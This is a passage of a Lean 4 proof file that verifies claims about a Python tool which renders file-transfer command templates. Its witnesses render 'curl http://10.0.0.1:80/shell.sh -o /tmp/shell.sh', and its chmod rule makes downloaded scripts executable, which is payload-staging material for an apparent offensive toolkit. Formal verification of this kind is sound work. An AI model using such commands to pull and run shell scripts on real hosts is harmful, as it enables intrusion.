    (is_elf_or_shell fp res = true ∨ is_elf_or_shell fp res = false) ∧
    (res = none → is_elf_or_shell fp res = false) := by
  constructor
  · cases h : is_elf_or_shell fp res
    · right; rfl
    · left; rfl
  · intro h
    subst h
    rfl

/-- Witness for C10: a missing file yields false (even with a `.sh`
name, since the suffix check sits inside the aborted `try` block). -/
theorem is_elf_or_shell_total_witness :
    is_elf_or_shell "missing.sh" none = false :=
  (is_elf_or_shell_total "missing.sh" none).2 rfl

/-- Counterexample to claim C2 as stated: an SCP-rendered template whose
body contains the PROTO placeholder does NOT leave the token
un-substituted in a result string; `str.format` raises `KeyError` because
only the four standard fields are supplied. -/
theorem scp_proto_keyerror :
    scpProtoCmd.generate scpCtx = Except.error (PyErr.keyError "PROTO") := by
  rfl

/-- Claim C2 (amended): for every context whose protocol is SCP, render
substitutes only the four standard placeholders; a template body using the
PROTO placeholder makes the render raise `KeyError` (a runtime error)
rather than leaving the token in the output; and no SCP template of the
default catalog contains the PROTO placeholder. -/
theorem scp_render_spec (cmd : SimpleCommand) (ctx : CommandContext)
    (hscp : pyToLower ctx.protocol = "scp") :
    cmd.generate ctx = pyFormat cmd.template (stdFields ctx) ∧
    (cmd.template = "scp -P {PROTO} {LHOST}" →
      cmd.generate ctx = Except.error (PyErr.keyError "PROTO")) ∧
    (defaultRegistry.get_commands "linux" "scp" "SCP").all
      (fun c => !(hasSubstr "{PROTO}".data c.template.data)) = true := by
  have h1 : cmd.generate ctx = pyFormat cmd.template (stdFields ctx) := by
    unfold SimpleCommand.generate
    rw [hscp]
    rfl
  refine ⟨h1, fun ht => ?_, by decide⟩
  rw [h1, ht]
  rfl

/-- Witness for C2: the default catalog's SCP template rendered under an
SCP context goes through the four-placeholder-only path. -/
theorem scp_render_spec_witness :
    (mkSimpleCommand "scp" "scp -P {LPORT} {LHOST}:{INPUTFILE} {OUTPUTFILE}" none
        (some ["SCP"])).generate scpCtx =
      pyFormat "scp -P {LPORT} {LHOST}:{INPUTFILE} {OUTPUTFILE}" (stdFields scpCtx) :=
  (scp_render_spec
    (mkSimpleCommand "scp" "scp -P {LPORT} {LHOST}:{INPUTFILE} {OUTPUTFILE}" none
      (some ["SCP"])) scpCtx (by decide)).1

/-- Claim C5: for every non-SCP context, render resolves PROTO to the
lower-cased protocol name and then substitutes the four standard
placeholders (`renderMain` replaces the PROTO token first and formats the
four fields second), and the two curl scenarios render as the spec states
under HTTP and HTTPS. -/
theorem render_non_scp :
    (∀ (cmd : SimpleCommand) (ctx : CommandContext), pyToLower ctx.protocol ≠ "scp" →
      cmd.generate ctx = renderMain cmd ctx (pyToLower ctx.protocol)) ∧
    curlCmd.generate ctxHTTP = Except.ok "curl http://10.0.0.1:80/shell.sh -o /tmp/shell.sh" ∧
    curlCmd.generate ctxHTTPS = Except.ok "curl https://10.0.0.1:80/shell.sh -o /tmp/shell.sh" := by
  refine ⟨?_, by rfl, by rfl⟩
  intro cmd ctx h
  unfold SimpleCommand.generate
  simp only []
  split_ifs with h1 h2 h3
  · have e : pyToLower ctx.protocol = "https" := by simpa using h1
    rw [e]
  · rw [pyToLower_idem]
  · have e : pyToLower ctx.protocol = "scp" := by simpa using h3
    exact absurd e h
  · rfl

/-- Witness for C5: the general non-SCP equation applied at curl and the
FTP context. -/
theorem render_non_scp_witness :
    curlCmd.generate ctxFTP = renderMain curlCmd ctxFTP (pyToLower ctxFTP.protocol) :=
  render_non_scp.1 curlCmd ctxFTP (by decide)

/-- Counterexample to claim C4 as stated: an input file that exists
(`os.path.isfile` is true) but cannot be opened, named with a `.sh`
suffix, satisfies the claim's third OR-condition, yet the run appends no
chmod suffix to the rendered command: the suffix check sits inside the
`try` block that the failed open aborts. -/
theorem chmod_sh_unreadable_counterexample :
    strEndsWith "x.sh" ".sh" = true ∧
    fsUnreadable.isfile "x.sh" = true ∧
    generate_command_tuples [curlCmd] ctxHTTP "linux" "x.sh" "/tmp/x.sh" fsUnreadable =
      Except.ok [(none, "curl http://10.0.0.1:80/shell.sh -o /tmp/shell.sh")] :=
  ⟨rfl, rfl, rfl⟩

/-- Claim C4 (amended): on a linux target whose resolved input file exists
and is readable, the chmod suffix is appended to every rendered command of
the run if and only if the three OR-combined conditions hold (ELF magic,
shebang first line, or `.sh` name); when the existing input file cannot be
read, no chmod suffix is appended, even for a `.sh` name. -/
theorem chmod_iff_executable (cmds : List SimpleCommand) (ctx : CommandContext)
    (input_file output_file : String) (fs : FileSystem) :
    (∀ f : FSFile, fs.isfile input_file = true → fs.read input_file = some f →
      generate_command_tuples cmds ctx "linux" input_file output_file fs =
        if elfCond f input_file then
          Except.map (List.map (appendChmod output_file))
            (gctuplesAux ctx "linux" output_file false cmds)
        else gctuplesAux ctx "linux" output_file false cmds) ∧
    (fs.read input_file = none →
      generate_command_tuples cmds ctx "linux" input_file output_file fs =
        gctuplesAux ctx "linux" output_file false cmds) := by
  constructor
  · intro f hf hr
    unfold generate_command_tuples
    rw [hf, hr, is_elf_or_shell_some]
    cases hc : elfCond f input_file
    · simp [hc]
    · simp [hc, gctuplesAux_chmod]
  · intro hn
    unfold generate_command_tuples
    rw [hn]
    cases hf : fs.isfile input_file <;> simp [hf, is_elf_or_shell]

/-- Witness for C4: one curl command on a readable shebang script file;
the condition holds and the chmod suffix is appended. -/
theorem chmod_iff_executable_witness :
    generate_command_tuples [curlCmd] ctxHTTP "linux" "shell.sh" "/tmp/shell.sh" fsW =
      if elfCond fsFileW "shell.sh" then
        Except.map (List.map (appendChmod "/tmp/shell.sh"))
          (gctuplesAux ctxHTTP "linux" "/tmp/shell.sh" false [curlCmd])
      else gctuplesAux ctxHTTP "linux" "/tmp/shell.sh" false [curlCmd] :=
  (chmod_iff_executable [curlCmd] ctxHTTP "shell.sh" "/tmp/shell.sh" fsW).1 fsFileW rfl rfl

/-- On a known OS key, `add_command` succeeds and the list registered under
`(os, command_type)` is extended by exactly the added command; all other
behavior of the update is read through `cmdList`. -/
theorem add_command_ok_cmdList (r : CommandRegistry) (os ct : String) (cmd : SimpleCommand)
    (r' : CommandRegistry) (h : r.add_command os ct cmd = Except.ok r') :
    r'.cmdList os ct = r.cmdList os ct ++ [cmd] := by
  cases hlk : assocLookup r.commands os with
  | none =>
    unfold CommandRegistry.add_command at h
    rw [hlk] at h
    cases h
  | some osMap =>
    have hadd : r.add_command os ct cmd =
        Except.ok ⟨assocSet r.commands os
          (assocSet osMap ct (((assocLookup osMap ct).getD []) ++ [cmd]))⟩ := by
      unfold CommandRegistry.add_command
      rw [hlk]
    have hr' : r' = ⟨assocSet r.commands os
        (assocSet osMap ct (((assocLookup osMap ct).getD []) ++ [cmd]))⟩ := by
      injection (hadd.symm.trans h) with he
      exact he.symm
    subst hr'
    unfold CommandRegistry.cmdList
    rw [assocLookup_assocSet, if_pos rfl]
    show (assocLookup (assocSet osMap ct (((assocLookup osMap ct).getD []) ++ [cmd])) ct).getD [] = _
    rw [assocLookup_assocSet, if_pos rfl]
    rw [hlk]
    rfl

/-- Claim C6: on a registry whose OS keys are windows and linux,
`add_command` fails (with the invalid-OS `ValueError`, the spec's
`InvalidOperatingSystem`) exactly when the OS is neither windows nor
linux; otherwise it appends the template to the `(os, command_type)` list
(creating it if absent), with no duplicate detection: re-adding the same
template appends it a second time. -/
theorem add_command_spec (r : CommandRegistry) (os ct : String) (cmd : SimpleCommand)
    (hk : assocKeys r.commands = ["windows", "linux"]) :
    (¬(os = "windows" ∨ os = "linux") ↔
      r.add_command os ct cmd =
        Except.error (PyErr.valueError ("Invalid OS type: " ++ os))) ∧
    (∀ r', r.add_command os ct cmd = Except.ok r' →
      r'.cmdList os ct = r.cmdList os ct ++ [cmd] ∧
      ∀ r'', r'.add_command os ct cmd = Except.ok r'' →
        r''.cmdList os ct = r.cmdList os ct ++ [cmd, cmd]) := by
  constructor
  · constructor
    · intro hno
      have hnone : assocLookup r.commands os = none := by
        apply assocLookup_eq_none
        rw [hk]
        intro hm
        apply hno
        simpa using hm
      unfold CommandRegistry.add_command
      rw [hnone]
    · intro herr hor
      have hmem : os ∈ assocKeys r.commands := by
        rw [hk]
        rcases hor with rfl | rfl <;> simp
      have hsome := assocLookup_isSome_of_mem _ _ hmem
      cases hlk : assocLookup r.commands os with
      | none =>
        rw [hlk] at hsome
        simp at hsome
      | some osMap =>
        have hadd : r.add_command os ct cmd =
            Except.ok ⟨assocSet r.commands os
              (assocSet osMap ct (((assocLookup osMap ct).getD []) ++ [cmd]))⟩ := by
          unfold CommandRegistry.add_command
          rw [hlk]
        rw [hadd] at herr
        cases herr
  · intro r' h
    have h1 := add_command_ok_cmdList r os ct cmd r' h
    refine ⟨h1, ?_⟩
    intro r'' h2
    have h3 := add_command_ok_cmdList r' os ct cmd r'' h2
    rw [h3, h1]
    simp

/-- Witness for C6: adding to the fresh registry under the unknown OS name
macos raises the invalid-OS error. -/
theorem add_command_spec_witness :
    CommandRegistry.init.add_command "macos" "curl" curlCmd =
      Except.error (PyErr.valueError ("Invalid OS type: " ++ "macos")) :=
  (add_command_spec CommandRegistry.init "macos" "curl" curlCmd (by decide)).1.mp
    (by decide)

/-- Claim C7: `get_command_types(os, protocol)` returns exactly the command
type keys under the OS with at least one template supporting the protocol,
the empty list (not an error) when none does, it is non-empty on the
default catalog for linux/HTTP and windows/HTTP, and
`get_commands(linux, ftp, HTTP)` is empty on the default catalog. -/
theorem get_command_types_exact (r : CommandRegistry) (os p : String)
    (hp : p ∈ validProtocols) :
    r.get_command_types os p =
      ((commandTypesOf r os).filter (anySupports p)).map Prod.fst ∧
    ((∀ e ∈ commandTypesOf r os, anySupports p e = false) →
      r.get_command_types os p = []) ∧
    defaultRegistry.get_command_types "linux" "HTTP" ≠ [] ∧
    defaultRegistry.get_command_types "windows" "HTTP" ≠ [] ∧
    defaultRegistry.get_commands "linux" "ftp" "HTTP" = [] := by
  have hup : pyToUpper p = p := by
    simp [validProtocols] at hp
    rcases hp with rfl | rfl | rfl | rfl | rfl <;> decide
  have hmain : r.get_command_types os p =
      ((commandTypesOf r os).filter (anySupports p)).map Prod.fst := by
    unfold CommandRegistry.get_command_types
    rw [gctAux_eq, hup]
    rfl
  refine ⟨hmain, ?_, by decide, by decide, by decide⟩
  intro hall
  rw [hmain]
  have hfil : (commandTypesOf r os).filter (anySupports p) = [] := by
    rw [List.filter_eq_nil_iff]
    intro a ha
    simp [hall a ha]
  rw [hfil]
  rfl

/-- Witness for C7: the characterization applied to the default registry
at windows/SMB. -/
theorem get_command_types_exact_witness :
    defaultRegistry.get_command_types "windows" "SMB" =
      ((commandTypesOf defaultRegistry "windows").filter (anySupports "SMB")).map Prod.fst :=
  (get_command_types_exact defaultRegistry "windows" "SMB" (by decide)).1
